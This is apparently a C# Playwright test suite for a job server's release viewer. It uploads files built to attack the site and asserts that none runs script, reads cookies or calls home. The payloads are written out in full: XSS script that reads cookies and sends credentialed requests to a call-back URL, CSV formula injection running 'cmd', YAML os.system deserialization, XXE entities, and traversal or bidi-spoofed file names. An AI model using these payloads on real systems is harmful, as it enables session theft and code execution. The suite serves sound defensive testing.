using System.IO.Compression;
using System.Text;
using JobServer.Domain.Backends;
using JobServer.TestCommon;
using Microsoft.Playwright;

namespace JobServer.Portal.Tests.Releases;

/// <summary>
/// A collection of files that studies made to attack the site, each opened in the viewer, alone, formatted and from a zip, in a
/// real browser. A file that shows the site anything, or calls home, or leaves its folder is a failure of the site.
/// </summary>
public sealed class AttackFilesTests
{
    private const string Gif = "GIF89a";

    private static readonly byte[] Png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    [RequiresProgram("chromium")]
    public async Task No_file_runs_a_script_with_the_sites_origin_reads_its_cookies_or_calls_home()
    {
        await using var served = await ServedSite.StartAsync();
        var release = await served.Site.ReleaseBytesAsync(ReleasePolicy.Reviewed, [.. Contents(served.Call)]);
        using var playwright = await Playwright.CreateAsync();
        await using var chromium = await ServedSite.ChromiumAsync(playwright);
        await using var context = await chromium.NewContextAsync(new() { BaseURL = served.Address });
        var page = await served.SignInAsync(context);
        var dialogs = 0;
        context.Dialog += (_, dialog) =>
        {
            dialogs++;
            _ = dialog.DismissAsync();
        };
        var viewer = $"{served.Site.Address}/releases/{release.Id}?file=";

        foreach (var file in release.Files)
        {
            await page.GotoAsync(viewer + file.Id, new() { WaitUntil = WaitUntilState.Load });
            await ClickEverythingAsync(page);
            Assert.True(page.Url.Contains(viewer, StringComparison.Ordinal), $"{file.Path} led the page to {page.Url}.");
            Assert.StartsWith("Release ", await page.TitleAsync());
            Assert.True(await page.EvaluateAsync<bool>("() => !window.owned && !document.querySelector('main script, main #owned, main [onerror], main [onload]')"), $"{file.Path} got into the page.");

            foreach (var suffix in new[] { "", "?formatted" })
            {
                var alone = await context.NewPageAsync();
                try
                {
                    await alone.GotoAsync($"{served.Address}/api/v2/releases/file/{file.Id}{suffix}");
                }
                catch (PlaywrightException error) when (error.Message.Contains("Download is starting", StringComparison.Ordinal))
                {
                    // What no browser shows is saved.
                }

                // The browser's own scripts see a document that a study wrote as one of no origin.
                Assert.True(await alone.EvaluateAsync<bool>("() => !window.owned && document.title !== 'owned'"), $"{file.Path}{suffix} ran its script.");
                await alone.CloseAsync();
            }
        }

        Assert.Equal((0, 0), (dialogs, served.Calls));
        await page.GotoAsync("/call");
        Assert.Equal(1, served.Calls);
    }

    [RequiresProgram("chromium")]
    public async Task No_name_leaves_its_folder_hides_its_ending_or_writes_into_a_page()
    {
        await using var served = await ServedSite.StartAsync();
        string[] names =
        [
            "output/<img src=x onerror=\"window.owned=1\">.csv", "output/\"><script>window.owned=1</script>.txt", "output/'onmouseover='window.owned=1.png",
            "output/\u202Evsc.exe", "output/a\u2066b\u2069.txt", "output/zero\u200Bwidth.txt", "output/line\u2028break.txt", "output/back\\slash\\..\\..\\up.txt",
            "output/C:evil.txt", "output/nul.txt.", "output/trailing space .txt ", "output/%2e%2e%2fencoded.txt", "output/semi;colon=\"x\".txt",
            "output/javascript:window.owned=1", "output/&lt;b&gt;.txt", "output/CON", "output/very" + new string('y', 300) + ".csv", "output/UPPER.txt", "output/upper.txt",
        ];
        var release = await served.Site.ReleaseAsync([.. names.Select(name => (name, "x"))]);
        using var playwright = await Playwright.CreateAsync();
        await using var chromium = await ServedSite.ChromiumAsync(playwright);
        await using var context = await chromium.NewContextAsync(new() { BaseURL = served.Address });
        var page = await served.SignInAsync(context);

        foreach (var address in new[] { "releases", $"releases/{release.Id}", "outputs/latest", "published/ask" })
        {
            await page.GotoAsync($"{served.Site.Address}/{address}");
            Assert.True(await page.EvaluateAsync<bool>("() => !window.owned && !document.querySelector('main script, main [onerror], main [onmouseover], main a[href^=javascript]')"), $"A name got into {address}.");
            var text = await page.InnerTextAsync("main");
            Assert.DoesNotContain(text, letter => letter is '\u202E' or '\u2066' or '\u200B' or '\u2028');
        }

        foreach (var file in release.Files)
        {
            await page.GotoAsync($"{served.Site.Address}/releases/{release.Id}?file={file.Id}");
            var download = await page.RunAndWaitForDownloadAsync(() => page.GetByText("Download this file").ClickAsync());
            Assert.DoesNotContain(download.SuggestedFilename, letter => letter is '/' or '\\' or ':' or '<' or '>' or '"' || char.IsControl(letter) || letter is '\u202E' or '\u2066');
            Assert.Null(await download.FailureAsync());
        }

        var zipped = await page.RunAndWaitForDownloadAsync(() => page.GetByText("Download all").First.ClickAsync());
        var folder = Directory.CreateTempSubdirectory("jobserver-zip-").FullName;
        try
        {
            var target = Path.Combine(folder, "in");
            await ZipFile.ExtractToDirectoryAsync(await zipped.PathAsync(), target);
            Assert.Equal(names.Length, Directory.EnumerateFiles(target, "*", SearchOption.AllDirectories).Count());
            Assert.Equal(["in"], Directory.EnumerateFileSystemEntries(folder).Select(Path.GetFileName));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static IEnumerable<(string Path, byte[] Content)> Contents(string call)
    {
        var script = $"window.owned=1;document.title='owned';alert(document.cookie);try{{parent.owned=1;top.location='{call}';opener.owned=1}}catch{{}};fetch('{call}',{{credentials:'include'}});new Image().src='{call}'";
        var svg = $"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"{script}\"><script>{script}</script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{call}'/></foreignObject><a xlink:href='javascript:{script}'><rect width='9' height='9'/></a><image href='{call}'/></svg>";
        (string, string)[] files =
        [
            ("html/script.html", $"<script>{script}</script>"),
            ("html/events.html", $"<body onload=\"{script}\"><img src=x onerror=\"{script}\"><details open ontoggle=\"{script}\"><svg onload=\"{script}\">"),
            ("html/base.html", $"<base href='{call}'><a href='/x' target=_top>click</a><form action='{call}' target=_top><button autofocus>go</button></form>"),
            ("html/refresh.html", $"<meta http-equiv=refresh content='0;url={call}'><meta http-equiv='Content-Security-Policy' content=\"script-src *\">"),
            ("html/frames.html", $"<iframe srcdoc=\"<script>{script.Replace('"', '\'')}</script>\"></iframe><object data='{call}'></object><embed src='{call}'><link rel=prefetch href='{call}'><link rel=stylesheet href='{call}'>"),
            ("html/style.html", $"<style>@import '{call}';body{{background:url('{call}')}}@font-face{{font-family:x;src:url('{call}')}}p{{font-family:x}}</style><p>x"),
            ("html/worker.htm", $"<script>navigator.serviceWorker.register('{call}');new Worker('{call}')</script><a href='javascript:{script}'>click</a><a ping='{call}' href='#'>ping</a>"),
            ("html/utf7.html", "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-"),
            ("svg/script.svg", svg),
            ("svg/entity.svg", $"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{call}'>]><?xml-stylesheet href='{call}'?><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"),
            ("csv/formulas.csv", $"=HYPERLINK(\"{call}\"),+1,-1,@SUM(1)\n=cmd|'/c calc'!A0,<img src=x onerror={script}>,\"<script>{script}</script>\",\t=1\n"),
            ("csv/markup.tsv", $"<svg onload={script}>\t</td><script>{script}</script>\n"),
            ("md/links.md", $"[a](javascript:{script})\n\n![x]({call})\n\n<script>{script}</script>\n\n<img src=x onerror=\"{script}\">\n\n[b]: javascript:{script}\n[b]\n\n<javascript:{script}>\n\n| <iframe src={call}> |\n|-|\n"),
            ("md/raw.md", "</style></html><script>window.owned=1</script>\n\n```html\n</code></pre><script>window.owned=1</script>\n```\n"),
            ("text/page.txt", $"<!doctype html><script>{script}</script>"),
            ("text/page.log", $"</pre><script>{script}</script>"),
            ("text/data.json", $"{{\"x\":\"</pre><script>{script}</script>\",\"__proto__\":{{\"owned\":1}}}}"),
            ("text/data.yaml", $"x: !!python/object/apply:os.system ['{script}']\n<script>{script}</script>"),
            ("lies/page.png", $"<script>{script}</script>"),
            ("lies/page.csv", $"<!doctype html><script>{script}</script>"),
            ("lies/no-ending", $"<!doctype html><script>{script}</script>"),
            ("lies/page.xhtml", $"<html xmlns='http://www.w3.org/1999/xhtml'><script>{script}</script></html>"),
            ("lies/page.pdf", $"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS({script})>>>>endobj"),
            ("lies/gifar.gif", Gif + $"/*<script>{script}</script>*/=1;{script}"),
        ];
        return files.Select(file => (file.Item1, Encoding.UTF8.GetBytes(file.Item2)))
            .Append(("lies/both.png", [.. Png, .. Encoding.UTF8.GetBytes($"<script>{script}</script>")]))
            .Append(("html/utf16.html", [0xff, 0xfe, .. Encoding.Unicode.GetBytes($"<script>{script}</script>")]));
    }

    private static async Task ClickEverythingAsync(IPage page)
    {
        foreach (var frame in page.Frames.Skip(1))
        {
            foreach (var thing in await frame.Locator("a, button, rect").AllAsync())
            {
                await thing.ClickAsync(new() { Force = true, Timeout = 2_000 });
            }
        }
    }
}
